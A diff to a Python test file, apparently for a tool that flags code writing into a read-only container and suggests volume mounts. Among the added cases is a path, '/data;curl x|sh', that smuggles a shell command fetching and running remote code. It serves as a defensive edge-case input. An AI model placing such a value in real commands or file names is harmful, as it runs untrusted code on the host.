@@ -60,6 +60,7 @@ def test_what_is_written(lay: Lay, code: str, path: str) -> None:
 
 
 READ_ONLY = "is written, and all but volumes and /tmp is read-only"
+NOWHERE = "no volume can lie there, so it has to write elsewhere"
 PLACES: list[tuple[str, tuple[str, ...], list[str]]] = [
     ("os.mkdir('uploads')", (), [f"`uploads` in main.py:3 {READ_ONLY}: pass --volume uploads:/app/uploads"]),
     ("os.mkdir('My_Files')", (), [f"`My_Files` in main.py:3 {READ_ONLY}: pass --volume my-files:/app/My_Files"]),
@@ -87,6 +88,18 @@ PLACES: list[tuple[str, tuple[str, ...], list[str]]] = [
     ("os.mkdir('uploads')", ("u:/app/uploads",), []),
     ("os.mkdir('files/up')", ("u:/app/files",), []),
     ("sqlite3.connect('/data/x.db')", ("d:/data",), []),
+    ("os.mkdir('/etc/app')", (), [f"`/etc/app` in main.py:3 {READ_ONLY}: {NOWHERE}"]),
+    ("os.mkdir('/data;curl x|sh')", (), []),
+    (
+        "os.mkdir('uploads')",
+        ("uploads:/data",),
+        [f"`uploads` in main.py:3 {READ_ONLY}: pass --volume uploads-2:/app/uploads"],
+    ),
+    (
+        f"os.mkdir('{'a' * 60}')",
+        (),
+        [f"`{'a' * 60}` in main.py:3 {READ_ONLY}: pass --volume {'a' * 42}:/app/{'a' * 60}"],
+    ),
     (
         "os.mkdir('uploads2')",
         ("u:/app/uploads",),
